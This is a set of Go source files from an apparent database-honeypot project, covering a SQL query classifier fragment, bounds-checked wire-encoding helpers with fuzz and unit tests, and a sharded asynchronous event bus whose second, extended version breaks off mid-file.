	case strings.HasPrefix(up, "SELECT VERSION"):
		return "SELECT VERSION"
	case strings.HasPrefix(up, "SELECT PG_SLEEP"):
		return "SELECT PG_SLEEP"
	case strings.HasPrefix(up, "SELECT"):
		return "SELECT"
	case strings.HasPrefix(up, "INSERT"):
		return "INSERT"
	case strings.HasPrefix(up, "UPDATE"):
		return "UPDATE"
	case strings.HasPrefix(up, "DELETE"):
		return "DELETE"
	case strings.HasPrefix(up, "SET"):
		return "SET"
	case strings.HasPrefix(up, "SHOW"):
		return "SHOW"
	case strings.HasPrefix(up, "BEGIN"), strings.HasPrefix(up, "COMMIT"), strings.HasPrefix(up, "ROLLBACK"):
		return "TXN"
	case up == "":
		return "EMPTY"
	default:
		fields := strings.Fields(up)
		if len(fields) > 0 {
			return fields[0]
		}
		return "UNKNOWN"
	}
}
