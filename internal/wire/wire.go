// Package wire provides low-level byte encoding helpers shared by the
// protocol honeypots: little/big-endian primitives, length-prefixed frame
// readers with hard size limits, and cursor-style buffer parsing that never
// panics on truncated input.
//
// Honeypots face the open Internet, so every reader in this package treats
// its input as hostile: declared lengths are bounded, short reads surface
// as errors, and no parsing routine indexes past the data it was handed.
package wire

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// ErrFrameTooLarge is returned when a length-prefixed frame declares a size
// beyond the caller-supplied limit. Oversized declarations are a common
// fuzzing / resource-exhaustion pattern against exposed listeners.
var ErrFrameTooLarge = errors.New("wire: declared frame exceeds limit")

// ErrShortBuffer is returned by Reader methods when the remaining input is
// smaller than the requested read.
var ErrShortBuffer = errors.New("wire: short buffer")

// ReadFull reads exactly len(buf) bytes, mapping io.ErrUnexpectedEOF and
// io.EOF after partial data onto a single error shape.
func ReadFull(r io.Reader, buf []byte) error {
	if _, err := io.ReadFull(r, buf); err != nil {
		return fmt.Errorf("wire: read %d bytes: %w", len(buf), err)
	}
	return nil
}

// ReadUint8 reads one byte.
func ReadUint8(r io.Reader) (byte, error) {
	var b [1]byte
	if err := ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return b[0], nil
}

// ReadUint16BE reads a big-endian uint16.
func ReadUint16BE(r io.Reader) (uint16, error) {
	var b [2]byte
	if err := ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return binary.BigEndian.Uint16(b[:]), nil
}

// ReadUint32BE reads a big-endian uint32.
func ReadUint32BE(r io.Reader) (uint32, error) {
	var b [4]byte
	if err := ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return binary.BigEndian.Uint32(b[:]), nil
}

// ReadUint32LE reads a little-endian uint32.
func ReadUint32LE(r io.Reader) (uint32, error) {
	var b [4]byte
	if err := ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint32(b[:]), nil
}

// ReadN reads exactly n bytes after validating n against limit.
func ReadN(r io.Reader, n, limit int) ([]byte, error) {
	if n < 0 || n > limit {
		return nil, fmt.Errorf("%w: %d > %d", ErrFrameTooLarge, n, limit)
	}
	buf := make([]byte, n)
	if err := ReadFull(r, buf); err != nil {
		return nil, err
	}
	return buf, nil
}

// ReadFrame reads one uint32-big-endian length-prefixed frame and returns
// its payload. The declared length is validated against limit before any
// payload allocation, so a hostile peer cannot make the reader allocate
// more than limit bytes no matter what length it declares. A zero-length
// frame returns an empty (non-nil) payload.
func ReadFrame(r io.Reader, limit int) ([]byte, error) {
	n, err := ReadUint32BE(r)
	if err != nil {
		return nil, err
	}
	if int64(n) > int64(limit) {
		return nil, fmt.Errorf("%w: %d > %d", ErrFrameTooLarge, n, limit)
	}
	return ReadN(r, int(n), limit)
}

// WriteFrame writes payload as one uint32-big-endian length-prefixed
// frame — the symmetric counterpart of ReadFrame. The length prefix and
// payload are written in a single Write call so a frame is never split
// by a concurrent writer on the same connection.
func WriteFrame(w io.Writer, payload []byte) error {
	buf := make([]byte, 4+len(payload))
	binary.BigEndian.PutUint32(buf, uint32(len(payload)))
	copy(buf[4:], payload)
	if _, err := w.Write(buf); err != nil {
		return fmt.Errorf("wire: write %d-byte frame: %w", len(payload), err)
	}
	return nil
}

// Reader is a bounds-checked cursor over a byte slice. All methods return
// ErrShortBuffer instead of panicking when the input is truncated, which is
// the normal case when parsing attacker-supplied frames.
type Reader struct {
	buf []byte
	off int
}

// NewReader returns a Reader positioned at the start of buf.
func NewReader(buf []byte) *Reader { return &Reader{buf: buf} }

// Len reports the number of unread bytes.
func (r *Reader) Len() int { return len(r.buf) - r.off }

// Offset reports the current read position.
func (r *Reader) Offset() int { return r.off }

// Bytes returns the next n bytes without copying.
func (r *Reader) Bytes(n int) ([]byte, error) {
	if n < 0 || r.Len() < n {
		return nil, ErrShortBuffer
	}
	b := r.buf[r.off : r.off+n]
	r.off += n
	return b, nil
}

// Skip advances the cursor by n bytes.
func (r *Reader) Skip(n int) error {
	_, err := r.Bytes(n)
	return err
}

// Uint8 reads one byte.
func (r *Reader) Uint8() (byte, error) {
	b, err := r.Bytes(1)
	if err != nil {
		return 0, err
	}
	return b[0], nil
}

// Uint16LE reads a little-endian uint16.
func (r *Reader) Uint16LE() (uint16, error) {
	b, err := r.Bytes(2)
	if err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint16(b), nil
}

// Uint16BE reads a big-endian uint16.
func (r *Reader) Uint16BE() (uint16, error) {
	b, err := r.Bytes(2)
	if err != nil {
		return 0, err
	}
	return binary.BigEndian.Uint16(b), nil
}

// Uint32LE reads a little-endian uint32.
func (r *Reader) Uint32LE() (uint32, error) {
	b, err := r.Bytes(4)
	if err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint32(b), nil
}

// Uint32BE reads a big-endian uint32.
func (r *Reader) Uint32BE() (uint32, error) {
	b, err := r.Bytes(4)
	if err != nil {
		return 0, err
	}
	return binary.BigEndian.Uint32(b), nil
}

// Uint64LE reads a little-endian uint64.
func (r *Reader) Uint64LE() (uint64, error) {
	b, err := r.Bytes(8)
	if err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint64(b), nil
}

// CString reads a NUL-terminated string, consuming the terminator.
func (r *Reader) CString() (string, error) {
	for i := r.off; i < len(r.buf); i++ {
		if r.buf[i] == 0 {
			s := string(r.buf[r.off:i])
			r.off = i + 1
			return s, nil
		}
	}
	return "", ErrShortBuffer
}

// Rest returns all unread bytes.
func (r *Reader) Rest() []byte {
	b := r.buf[r.off:]
	r.off = len(r.buf)
	return b
}

// Writer builds a byte buffer with primitive appends. The zero value is
// ready to use.
type Writer struct {
	buf []byte
}

// NewWriter returns a Writer with capacity hint n.
func NewWriter(n int) *Writer { return &Writer{buf: make([]byte, 0, n)} }

// Bytes returns the accumulated buffer.
func (w *Writer) Bytes() []byte { return w.buf }

// Len reports the accumulated length.
func (w *Writer) Len() int { return len(w.buf) }

// Uint8 appends one byte.
func (w *Writer) Uint8(v byte) *Writer {
	w.buf = append(w.buf, v)
	return w
}

// Uint16LE appends a little-endian uint16.
func (w *Writer) Uint16LE(v uint16) *Writer {
	w.buf = binary.LittleEndian.AppendUint16(w.buf, v)
	return w
}

// Uint16BE appends a big-endian uint16.
func (w *Writer) Uint16BE(v uint16) *Writer {
	w.buf = binary.BigEndian.AppendUint16(w.buf, v)
	return w
}

// Uint32LE appends a little-endian uint32.
func (w *Writer) Uint32LE(v uint32) *Writer {
	w.buf = binary.LittleEndian.AppendUint32(w.buf, v)
	return w
}

// Uint32BE appends a big-endian uint32.
func (w *Writer) Uint32BE(v uint32) *Writer {
	w.buf = binary.BigEndian.AppendUint32(w.buf, v)
	return w
}

// Uint64LE appends a little-endian uint64.
func (w *Writer) Uint64LE(v uint64) *Writer {
	w.buf = binary.LittleEndian.AppendUint64(w.buf, v)
	return w
}

// Raw appends b verbatim.
func (w *Writer) Raw(b []byte) *Writer {
	w.buf = append(w.buf, b...)
	return w
}

// String appends s verbatim (no terminator).
func (w *Writer) String(s string) *Writer {
	w.buf = append(w.buf, s...)
	return w
}

// CString appends s followed by a NUL terminator.
func (w *Writer) CString(s string) *Writer {
	w.buf = append(w.buf, s...)
	w.buf = append(w.buf, 0)
	return w
}

// Zeros appends n zero bytes.
func (w *Writer) Zeros(n int) *Writer {
	w.buf = append(w.buf, make([]byte, n)...)
	return w
}
