package wire

import (
	"bytes"
	"errors"
	"io"
	"testing"
)

// FuzzReadFrame throws truncated, oversized and garbage inputs at the
// length-prefixed frame reader. ReadFrame is the first parser on the
// collector's Internet-facing port, so the bar is absolute: it must
// error — never panic and never allocate past the caller's limit — for
// every input, and for well-formed input it must round-trip exactly
// what WriteFrame produced.
func FuzzReadFrame(f *testing.F) {
	// Well-formed frames.
	var ok bytes.Buffer
	if err := WriteFrame(&ok, []byte("hello")); err != nil {
		f.Fatal(err)
	}
	f.Add(ok.Bytes(), 64)
	var empty bytes.Buffer
	if err := WriteFrame(&empty, nil); err != nil {
		f.Fatal(err)
	}
	f.Add(empty.Bytes(), 64)
	// Truncated prefix, truncated payload, oversized declaration, garbage.
	f.Add([]byte{0x00, 0x00}, 64)
	f.Add([]byte{0x00, 0x00, 0x00, 0x09, 'x'}, 64)
	f.Add([]byte{0xff, 0xff, 0xff, 0xff}, 64)
	f.Add([]byte{0xde, 0xad, 0xbe, 0xef, 0x01, 0x02}, 8)

	f.Fuzz(func(t *testing.T, data []byte, limit int) {
		if limit < 0 {
			limit = 0
		}
		if limit > 1<<20 {
			limit = 1 << 20
		}
		payload, err := ReadFrame(bytes.NewReader(data), limit)
		if err != nil {
			// Declared-too-large must be rejected by the limit check, not
			// by running out of input after a huge allocation.
			if len(data) >= 4 {
				declared := uint32(data[0])<<24 | uint32(data[1])<<16 | uint32(data[2])<<8 | uint32(data[3])
				if int64(declared) > int64(limit) && !errors.Is(err, ErrFrameTooLarge) {
					t.Fatalf("declared %d > limit %d: err = %v, want ErrFrameTooLarge", declared, limit, err)
				}
			}
			return
		}
		if len(payload) > limit {
			t.Fatalf("payload %d bytes exceeds limit %d", len(payload), limit)
		}
		// A successful read must have consumed exactly prefix+payload and
		// round-trip through WriteFrame.
		var re bytes.Buffer
		if err := WriteFrame(&re, payload); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(re.Bytes(), data[:4+len(payload)]) {
			t.Fatalf("round trip mismatch: %x vs %x", re.Bytes(), data[:4+len(payload)])
		}
	})
}

// TestReadFrameEOF pins the plain-Go error shapes: clean EOF on an empty
// stream (a peer hanging up between frames is normal), unexpected EOF
// mid-frame.
func TestReadFrameEOF(t *testing.T) {
	if _, err := ReadFrame(bytes.NewReader(nil), 16); !errors.Is(err, io.EOF) {
		t.Fatalf("empty stream: %v, want EOF", err)
	}
	if _, err := ReadFrame(bytes.NewReader([]byte{0, 0, 0, 4, 1}), 16); !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("truncated payload: %v, want ErrUnexpectedEOF", err)
	}
	if _, err := ReadFrame(bytes.NewReader([]byte{0, 0, 1, 0}), 16); !errors.Is(err, ErrFrameTooLarge) {
		t.Fatalf("oversized declaration: %v, want ErrFrameTooLarge", err)
	}
}
