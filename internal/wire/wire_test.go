package wire

import (
	"bytes"
	"errors"
	"io"
	"testing"
	"testing/quick"
)

func TestReaderPrimitives(t *testing.T) {
	w := NewWriter(0)
	w.Uint8(0xab)
	w.Uint16LE(0x1234)
	w.Uint16BE(0x5678)
	w.Uint32LE(0xdeadbeef)
	w.Uint32BE(0xcafebabe)
	w.Uint64LE(0x1122334455667788)
	w.CString("hello")
	w.Raw([]byte{1, 2, 3})

	r := NewReader(w.Bytes())
	if v, err := r.Uint8(); err != nil || v != 0xab {
		t.Fatalf("Uint8 = %x, %v", v, err)
	}
	if v, err := r.Uint16LE(); err != nil || v != 0x1234 {
		t.Fatalf("Uint16LE = %x, %v", v, err)
	}
	if v, err := r.Uint16BE(); err != nil || v != 0x5678 {
		t.Fatalf("Uint16BE = %x, %v", v, err)
	}
	if v, err := r.Uint32LE(); err != nil || v != 0xdeadbeef {
		t.Fatalf("Uint32LE = %x, %v", v, err)
	}
	if v, err := r.Uint32BE(); err != nil || v != 0xcafebabe {
		t.Fatalf("Uint32BE = %x, %v", v, err)
	}
	if v, err := r.Uint64LE(); err != nil || v != 0x1122334455667788 {
		t.Fatalf("Uint64LE = %x, %v", v, err)
	}
	if s, err := r.CString(); err != nil || s != "hello" {
		t.Fatalf("CString = %q, %v", s, err)
	}
	rest := r.Rest()
	if !bytes.Equal(rest, []byte{1, 2, 3}) {
		t.Fatalf("Rest = %v", rest)
	}
	if r.Len() != 0 {
		t.Fatalf("Len after Rest = %d", r.Len())
	}
}

func TestReaderShortBuffer(t *testing.T) {
	r := NewReader([]byte{1, 2})
	if _, err := r.Uint32LE(); !errors.Is(err, ErrShortBuffer) {
		t.Fatalf("Uint32LE on short buffer: %v", err)
	}
	// The failed read must not consume input.
	if v, err := r.Uint16LE(); err != nil || v != 0x0201 {
		t.Fatalf("Uint16LE after failed read = %x, %v", v, err)
	}
}

func TestReaderUnterminatedCString(t *testing.T) {
	r := NewReader([]byte("no-terminator"))
	if _, err := r.CString(); !errors.Is(err, ErrShortBuffer) {
		t.Fatalf("CString = %v, want ErrShortBuffer", err)
	}
}

func TestReadNLimit(t *testing.T) {
	if _, err := ReadN(bytes.NewReader(make([]byte, 100)), 50, 10); !errors.Is(err, ErrFrameTooLarge) {
		t.Fatalf("ReadN over limit: %v", err)
	}
	if _, err := ReadN(bytes.NewReader(make([]byte, 100)), -1, 10); !errors.Is(err, ErrFrameTooLarge) {
		t.Fatalf("ReadN negative: %v", err)
	}
	b, err := ReadN(bytes.NewReader([]byte{9, 8, 7}), 3, 10)
	if err != nil || !bytes.Equal(b, []byte{9, 8, 7}) {
		t.Fatalf("ReadN = %v, %v", b, err)
	}
}

func TestReadFullTruncated(t *testing.T) {
	buf := make([]byte, 8)
	err := ReadFull(bytes.NewReader([]byte{1, 2}), buf)
	if err == nil {
		t.Fatal("ReadFull on truncated input succeeded")
	}
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("ReadFull error = %v, want ErrUnexpectedEOF in chain", err)
	}
}

func TestStreamReaders(t *testing.T) {
	src := bytes.NewReader([]byte{0xaa, 0x12, 0x34, 0x00, 0x00, 0x00, 0x07, 0x07, 0x00, 0x00, 0x00})
	if v, err := ReadUint8(src); err != nil || v != 0xaa {
		t.Fatalf("ReadUint8 = %x, %v", v, err)
	}
	if v, err := ReadUint16BE(src); err != nil || v != 0x1234 {
		t.Fatalf("ReadUint16BE = %x, %v", v, err)
	}
	if v, err := ReadUint32BE(src); err != nil || v != 0x07 {
		t.Fatalf("ReadUint32BE = %x, %v", v, err)
	}
	if v, err := ReadUint32LE(src); err != nil || v != 0x07 {
		t.Fatalf("ReadUint32LE = %x, %v", v, err)
	}
}

// Property: CString(Writer.CString(s)) == s for any NUL-free string.
func TestCStringRoundTripQuick(t *testing.T) {
	f := func(raw []byte) bool {
		clean := make([]byte, 0, len(raw))
		for _, b := range raw {
			if b != 0 {
				clean = append(clean, b)
			}
		}
		s := string(clean)
		w := NewWriter(0)
		w.CString(s)
		r := NewReader(w.Bytes())
		got, err := r.CString()
		return err == nil && got == s && r.Len() == 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Property: every integer width round-trips through Writer/Reader.
func TestIntegerRoundTripQuick(t *testing.T) {
	f := func(a uint8, b uint16, c uint32, d uint64) bool {
		w := NewWriter(0)
		w.Uint8(a).Uint16LE(b).Uint16BE(b).Uint32LE(c).Uint32BE(c).Uint64LE(d)
		r := NewReader(w.Bytes())
		ga, _ := r.Uint8()
		gbl, _ := r.Uint16LE()
		gbb, _ := r.Uint16BE()
		gcl, _ := r.Uint32LE()
		gcb, _ := r.Uint32BE()
		gd, err := r.Uint64LE()
		return err == nil && ga == a && gbl == b && gbb == b && gcl == c && gcb == c && gd == d
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestReaderSkipOffsetLen(t *testing.T) {
	r := NewReader([]byte{1, 2, 3, 4, 5})
	if err := r.Skip(2); err != nil || r.Offset() != 2 || r.Len() != 3 {
		t.Fatalf("Skip/Offset/Len = %v %d %d", err, r.Offset(), r.Len())
	}
	if err := r.Skip(10); !errors.Is(err, ErrShortBuffer) {
		t.Fatalf("over-skip = %v", err)
	}
}

func TestWriterZerosStringLen(t *testing.T) {
	w := NewWriter(0)
	w.String("ab").Zeros(3)
	if w.Len() != 5 {
		t.Fatalf("Len = %d", w.Len())
	}
	b := w.Bytes()
	if b[0] != 'a' || b[2] != 0 || b[4] != 0 {
		t.Fatalf("bytes = %v", b)
	}
}
