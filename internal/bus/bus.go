// Package bus is the asynchronous event transport between honeypot
// sessions and event consumers. The paper's pipeline (Figure 1) funnels
// every interaction — 18.16M brute-force logins among 24M+ events — from
// heterogeneous collectors into one queryable store; at production scale
// a synchronous Sink call per event serialises the whole farm behind the
// slowest consumer's lock. The bus decouples them:
//
//	sessions ──Record──▶ shard queues ──workers──▶ sinks (batched)
//
// Each event's source IP is hashed onto one of N shards (default
// GOMAXPROCS) with core.ShardOf, buffered in a bounded ring queue, and
// delivered by that shard's worker goroutine in batches to every
// registered sink. Sinks implementing core.BatchSink receive whole
// batches (one lock/flush per batch); plain core.Sinks receive the
// events one by one.
//
// Because all events from one source IP land on one shard, per-attacker
// event order is preserved end to end — the property the evstore's
// command sequences and the clustering depend on. Order across different
// sources is not defined, which is exactly the situation on a real wire.
// core.ShardOf is also how the sharded evstore partitions records, so a
// store whose shard count matches the bus's commits each delivery batch
// entirely within one store shard: N workers, N store shards, zero
// cross-shard lock contention.
//
// Backpressure is a policy choice: Block throttles producers when a
// shard queue fills (lossless collection, the simulator's choice), Drop
// sheds load and counts every shed event (a hostile flood must not OOM a
// live farm). Counters, a batch-size histogram and per-sink delivery
// latency are exported through Stats for operational visibility.
package bus

import (
	"fmt"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"decoydb/internal/core"
)

// Policy selects what Record does when a shard queue is full.
type Policy int

const (
	// Block makes Record wait for queue space: no event is ever lost,
	// at the cost of throttling producers to the sinks' pace.
	Block Policy = iota
	// Drop makes Record discard the event immediately and count it.
	// A flood saturates the counters, not the heap.
	Drop
)

// String returns the policy name.
func (p Policy) String() string {
	switch p {
	case Block:
		return "block"
	case Drop:
		return "drop"
	}
	return fmt.Sprintf("policy(%d)", int(p))
}

// Options tune a Bus. The zero value is usable: GOMAXPROCS shards,
// blocking backpressure, and default queue/batch sizes.
type Options struct {
	// Shards is the number of queues/workers. 0 means GOMAXPROCS.
	Shards int
	// QueueSize is the per-shard ring capacity. 0 means DefaultQueueSize.
	QueueSize int
	// BatchSize caps events per delivery batch. 0 means DefaultBatchSize.
	BatchSize int
	// Policy is the backpressure policy when a shard queue is full.
	Policy Policy
}

// Defaults for Options.
const (
	DefaultQueueSize = 8192
	DefaultBatchSize = 256
)

func (o Options) withDefaults() Options {
	if o.Shards <= 0 {
		o.Shards = runtime.GOMAXPROCS(0)
	}
	if o.QueueSize <= 0 {
		o.QueueSize = DefaultQueueSize
	}
	if o.BatchSize <= 0 {
		o.BatchSize = DefaultBatchSize
	}
	if o.BatchSize > o.QueueSize {
		o.BatchSize = o.QueueSize
	}
	return o
}

// shard is one bounded ring queue plus the state its worker and Flush
// coordinate on.
type shard struct {
	mu       sync.Mutex
	notEmpty sync.Cond
	notFull  sync.Cond
	drained  sync.Cond // signalled when queue empty and no batch in flight
	buf      []core.Event
	head     int
	n        int
	inflight bool // worker is delivering a popped batch
	closed   bool

	enqueued uint64
	dropped  uint64
}

func (sh *shard) init(size int) {
	sh.buf = make([]core.Event, size)
	sh.notEmpty.L = &sh.mu
	sh.notFull.L = &sh.mu
	sh.drained.L = &sh.mu
}

// sinkEntry wraps one registered sink with its delivery counters.
type sinkEntry struct {
	name    string
	sink    core.Sink
	batch   core.BatchSink // non-nil when sink supports batch delivery
	batches atomic.Uint64
	events  atomic.Uint64
	errors  atomic.Uint64
	latNS   atomic.Int64 // cumulative delivery latency
	maxNS   atomic.Int64
}

// HistBuckets is the number of batch-size histogram buckets: bucket i
// counts batches of size in (2^(i-1), 2^i], so bucket 0 is size 1,
// bucket 1 is size 2, bucket 2 is 3–4, ... the last bucket is open.
const HistBuckets = 10

// Bus is a sharded asynchronous fan-out from sessions to sinks. It
// implements core.Sink and core.Flusher; Close drains and stops it.
type Bus struct {
	opts   Options
	shards []*shard
	sinks  []*sinkEntry
	wg     sync.WaitGroup

	delivered atomic.Uint64
	hist      [HistBuckets]atomic.Uint64

	errMu    sync.Mutex
	firstErr error

	closeOnce sync.Once
}

// New starts a Bus delivering to sinks. At least one sink is required.
func New(opts Options, sinks ...core.Sink) *Bus {
	if len(sinks) == 0 {
		panic("bus: no sinks registered")
	}
	b := &Bus{opts: opts.withDefaults()}
	for _, s := range sinks {
		e := &sinkEntry{name: fmt.Sprintf("%T", s), sink: s}
		if bs, ok := s.(core.BatchSink); ok {
			e.batch = bs
		}
		b.sinks = append(b.sinks, e)
	}
	b.shards = make([]*shard, b.opts.Shards)
	for i := range b.shards {
		sh := &shard{}
		sh.init(b.opts.QueueSize)
		b.shards[i] = sh
		b.wg.Add(1)
		go b.worker(sh)
	}
	return b
}

// shardFor hashes an event's source address onto a shard via
// core.ShardOf — the partitioning contract shared with the sharded
// evstore. Hashing the address (not the port) keeps all events from one
// attacker on one shard, preserving their order through delivery.
func (b *Bus) shardFor(e core.Event) *shard {
	return b.shards[core.ShardOf(e.Src.Addr(), len(b.shards))]
}

// Record implements core.Sink: it enqueues the event on its source's
// shard, applying the backpressure policy if the queue is full. Events
// recorded after Close are counted as dropped.
func (b *Bus) Record(e core.Event) {
	sh := b.shardFor(e)
	sh.mu.Lock()
	if b.opts.Policy == Block {
		for sh.n == len(sh.buf) && !sh.closed {
			sh.notFull.Wait()
		}
	}
	if sh.closed || sh.n == len(sh.buf) {
		sh.dropped++
		sh.mu.Unlock()
		return
	}
	sh.buf[(sh.head+sh.n)%len(sh.buf)] = e
	sh.n++
	sh.enqueued++
	sh.notEmpty.Signal()
	sh.mu.Unlock()
}

// worker drains one shard: pop up to BatchSize events, deliver to every
// sink, repeat until the shard is closed and empty.
func (b *Bus) worker(sh *shard) {
	defer b.wg.Done()
	batch := make([]core.Event, 0, b.opts.BatchSize)
	for {
		sh.mu.Lock()
		for sh.n == 0 && !sh.closed {
			sh.drained.Broadcast()
			sh.notEmpty.Wait()
		}
		if sh.n == 0 { // closed and fully drained
			sh.drained.Broadcast()
			sh.mu.Unlock()
			return
		}
		k := sh.n
		if k > b.opts.BatchSize {
			k = b.opts.BatchSize
		}
		batch = batch[:0]
		for i := 0; i < k; i++ {
			batch = append(batch, sh.buf[sh.head])
			sh.buf[sh.head] = core.Event{} // release references
			sh.head = (sh.head + 1) % len(sh.buf)
		}
		sh.n -= k
		sh.inflight = true
		sh.notFull.Broadcast()
		sh.mu.Unlock()

		b.deliver(batch)
		b.delivered.Add(uint64(k))
		b.hist[histBucket(k)].Add(1)

		sh.mu.Lock()
		sh.inflight = false
		if sh.n == 0 {
			sh.drained.Broadcast()
		}
		sh.mu.Unlock()
	}
}

// deliver hands one batch to every sink, preferring batch delivery.
func (b *Bus) deliver(batch []core.Event) {
	for _, e := range b.sinks {
		start := time.Now()
		if e.batch != nil {
			if err := e.batch.RecordBatch(batch); err != nil {
				e.errors.Add(1)
				b.noteErr(fmt.Errorf("bus: %s: %w", e.name, err))
			}
		} else {
			for _, ev := range batch {
				e.sink.Record(ev)
			}
		}
		lat := time.Since(start)
		e.batches.Add(1)
		e.events.Add(uint64(len(batch)))
		e.latNS.Add(int64(lat))
		for {
			cur := e.maxNS.Load()
			if int64(lat) <= cur || e.maxNS.CompareAndSwap(cur, int64(lat)) {
				break
			}
		}
	}
}

func (b *Bus) noteErr(err error) {
	b.errMu.Lock()
	if b.firstErr == nil {
		b.firstErr = err
	}
	b.errMu.Unlock()
}

// histBucket maps a batch size to its histogram bucket (see HistBuckets).
func histBucket(n int) int {
	i := 0
	for n > 1 && i < HistBuckets-1 {
		n = (n + 1) / 2
		i++
	}
	return i
}

// Flush blocks until every event enqueued before the call has been
// delivered to all sinks. Concurrent producers may enqueue more during
// the flush; Flush returns once it observes each shard momentarily
// empty with no batch in flight.
func (b *Bus) Flush() {
	for _, sh := range b.shards {
		sh.mu.Lock()
		for sh.n > 0 || sh.inflight {
			sh.drained.Wait()
		}
		sh.mu.Unlock()
	}
}

// Close drains all queues, stops the workers, and returns the first
// sink delivery error (if any). Record after Close counts as dropped.
// Close is idempotent.
func (b *Bus) Close() error {
	b.closeOnce.Do(func() {
		for _, sh := range b.shards {
			sh.mu.Lock()
			sh.closed = true
			sh.notEmpty.Broadcast()
			sh.notFull.Broadcast()
			sh.mu.Unlock()
		}
		b.wg.Wait()
	})
	b.errMu.Lock()
	defer b.errMu.Unlock()
	return b.firstErr
}

// Err returns the first sink delivery error observed so far.
func (b *Bus) Err() error {
	b.errMu.Lock()
	defer b.errMu.Unlock()
	return b.firstErr
}

// SinkStats are per-sink delivery counters.
type SinkStats struct {
	Name       string
	Batches    uint64
	Events     uint64
	Errors     uint64
	Latency    time.Duration // cumulative time spent delivering
	MaxLatency time.Duration // slowest single delivery
}

// AvgLatency is the mean per-batch delivery latency.
func (s SinkStats) AvgLatency() time.Duration {
	if s.Batches == 0 {
		return 0
	}
	return s.Latency / time.Duration(s.Batches)
}

// Stats is a point-in-time snapshot of bus counters.
type Stats struct {
	Shards    int
	Policy    Policy
	Enqueued  uint64
	Delivered uint64
	Dropped   uint64
	Pending   uint64 // currently queued, not yet popped
	// BatchHist[i] counts delivered batches of size in (2^(i-1), 2^i]
	// (bucket 0 = single-event batches; last bucket open-ended).
	BatchHist [HistBuckets]uint64
	Sinks     []SinkStats
}

// Stats snapshots the counters. It is safe to call concurrently with
// Record and delivery.
func (b *Bus) Stats() Stats {
	st := Stats{
		Shards:    len(b.shards),
		Policy:    b.opts.Policy,
		Delivered: b.delivered.Load(),
	}
	for i := range st.BatchHist {
		st.BatchHist[i] = b.hist[i].Load()
	}
	for _, sh := range b.shards {
		sh.mu.Lock()
		st.Enqueued += sh.enqueued
		st.Dropped += sh.dropped
		st.Pending += uint64(sh.n)
		sh.mu.Unlock()
	}
	for _, e := range b.sinks {
		st.Sinks = append(st.Sinks, SinkStats{
			Name:       e.name,
			Batches:    e.batches.Load(),
			Events:     e.events.Load(),
			Errors:     e.errors.Load(),
			Latency:    time.Duration(e.latNS.Load()),
			MaxLatency: time.Duration(e.maxNS.Load()),
		})
	}
	sort.Slice(st.Sinks, func(i, j int) bool { return st.Sinks[i].Name < st.Sinks[j].Name })
	return st
}

// MeanBatch is the mean delivered batch size.
func (s Stats) MeanBatch() float64 {
	var batches uint64
	for _, n := range s.BatchHist {
		batches += n
	}
	if batches == 0 {
		return 0
	}
	return float64(s.Delivered) / float64(batches)
}

// String renders the snapshot as one operational log line.
func (s Stats) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "bus[%d shards, %s]: enq=%d dlv=%d drop=%d pend=%d batch~%.1f",
		s.Shards, s.Policy, s.Enqueued, s.Delivered, s.Dropped, s.Pending, s.MeanBatch())
	for _, sk := range s.Sinks {
		fmt.Fprintf(&sb, " | %s: %d ev/%d batches avg=%s max=%s",
			sk.Name, sk.Events, sk.Batches,
			sk.AvgLatency().Round(time.Microsecond), sk.MaxLatency.Round(time.Microsecond))
		if sk.Errors > 0 {
			fmt.Fprintf(&sb, " errs=%d", sk.Errors)
		}
	}
	return sb.String()
}
