// Package bus is the asynchronous event transport between honeypot
// sessions and event consumers. The paper's pipeline (Figure 1) funnels
// every interaction — 18.16M brute-force logins among 24M+ events — from
// heterogeneous collectors into one queryable store; at production scale
// a synchronous Sink call per event serialises the whole farm behind the
// slowest consumer's lock. The bus decouples them:
//
//	sessions ──Record──▶ shard queues ──workers──▶ sinks (batched)
//
// Each event's source IP is hashed onto one of N shards (default
// GOMAXPROCS) with core.ShardOf, buffered in a bounded ring queue, and
// delivered by that shard's worker goroutine in batches to every
// registered sink. Sinks implementing core.BatchSink receive whole
// batches (one lock/flush per batch); plain core.Sinks receive the
// events one by one.
//
// Because all events from one source IP land on one shard, per-attacker
// event order is preserved end to end — the property the evstore's
// command sequences and the clustering depend on. Order across different
// sources is not defined, which is exactly the situation on a real wire.
// core.ShardOf is also how the sharded evstore partitions records, so a
// store whose shard count matches the bus's commits each delivery batch
// entirely within one store shard: N workers, N store shards, zero
// cross-shard lock contention.
//
// Backpressure is a policy choice: Block throttles producers when a
// shard queue fills (lossless collection, the simulator's choice), Drop
// sheds load uniformly and counts every shed event (a hostile flood
// must not OOM a live farm), and Adaptive sheds per source — a queue
// past its high-water mark caps each source at its first N events per
// window, so one flooding attacker is bounded while every other source
// on the shard stays lossless. Counters, a batch-size histogram,
// per-sink delivery latency and the heaviest shedding sources are
// exported through Stats for operational visibility.
package bus

import (
	"fmt"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"decoydb/internal/core"
)

// Policy selects what Record does when a shard queue fills up.
type Policy int

const (
	// Block makes Record wait for queue space: no event is ever lost,
	// at the cost of throttling producers to the sinks' pace.
	Block Policy = iota
	// Drop makes Record discard the event immediately and count it.
	// A flood saturates the counters, not the heap.
	Drop
	// Adaptive blocks like Block while the queue is healthy, but once
	// the queue passes Options.HighWater it sheds per source: each
	// source keeps its first Options.SourceBudget events per
	// Options.SourceWindow of event time and loses the rest, counted
	// against that source. Shedding stops once the queue drains to
	// Options.LowWater. A flooding attacker is capped at its window
	// budget; sources below the budget never lose an event.
	Adaptive
)

// String returns the policy name.
func (p Policy) String() string {
	switch p {
	case Block:
		return "block"
	case Drop:
		return "drop"
